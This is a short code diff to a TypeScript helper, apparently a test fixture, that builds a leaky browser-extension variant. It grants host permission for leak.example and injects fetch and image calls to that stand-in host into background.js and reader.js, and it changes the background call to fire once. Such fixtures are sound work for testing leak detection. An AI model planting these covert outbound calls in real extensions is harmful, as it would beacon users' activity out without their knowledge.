@@ -52,7 +52,10 @@ export function withLeaks(extension: string): string {
     manifest.host_permissions.push('*://leak.example/*');
   });
   const leak = (from: string) => `fetch('https://leak.example/${from}').catch(() => undefined);`;
-  variant.append('background.js', `chrome.tabs.onUpdated.addListener(() => { ${leak('worker')} });`);
+  variant.append(
+    'background.js',
+    `let leaked = false; chrome.tabs.onUpdated.addListener(() => { if (!leaked) ${leak('worker')} leaked = true; });`,
+  );
   variant.append('reader.js', `${leak('reader')} new Image().src = 'https://leak.example/image';`);
   return variant.folder;
 }
